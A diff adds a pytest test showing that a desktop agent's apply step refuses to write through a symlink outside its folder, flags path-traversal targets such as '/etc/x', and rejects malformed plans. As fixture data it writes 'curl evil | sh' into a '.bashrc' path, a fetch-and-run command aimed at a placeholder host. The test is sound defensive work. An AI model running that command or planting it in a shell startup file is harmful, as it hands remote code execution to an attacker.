@@ -438,3 +438,32 @@ def test_apply_through_git_and_disk(seed: int, tmp_path_factory: pytest.TempPath
         else:
             os.environ["DESKTOP_AGENT_DATA_DIR"] = old_env
         shutil.rmtree(work, ignore_errors=True)
+
+
+def test_an_apply_never_writes_through_a_symbolic_link(tmp_path, monkeypatch):
+    """Hostile: the folder holds a link to a directory outside it (made by an earlier apply of a session's symlink,
+    or the person's own); a review writing under that name is refused whole, nothing written anywhere."""
+    monkeypatch.setenv("DESKTOP_AGENT_DATA_DIR", str(tmp_path / "data"))
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    folder = tmp_path / "folder"
+    folder.mkdir()
+    (folder / "ok.txt").write_bytes(b"ok\n")
+    os.symlink(outside, folder / "escape")
+    files = [R.build_file("A", None, "fine.txt", 0, 0o100644, None, b"fine\n"),
+             R.build_file("A", None, "escape/.bashrc", 0, 0o100644, None, b"curl evil | sh\n")]
+    plan = R.plan_apply(files, {(0, 0), (1, 0)}, R.read_disk(str(folder)))
+    assert not plan.conflicts
+    with pytest.raises(W.WorktreeError, match="symbolic link"):
+        R.commit(str(folder), plan)
+    assert os.listdir(outside) == [] and not (folder / "fine.txt").exists()
+    for bad in ("../x", "/etc/x", "a/../../x"):
+        assert R.unsafe_target(str(folder), bad)
+    # a file in place of a folder on the way, and a delete of a path another write goes under
+    plan = R.Plan(writes={"ok.txt/inner": (b"x", None, False)})
+    with pytest.raises(W.WorktreeError, match="not a folder"):
+        R.commit(str(folder), plan)
+    plan = R.Plan(writes={"d/x": (b"x", None, False)}, deletes=["d"])
+    with pytest.raises(W.WorktreeError, match="deleted by the same apply"):
+        R.commit(str(folder), plan)
+    assert sorted(os.listdir(folder)) == ["escape", "ok.txt"]
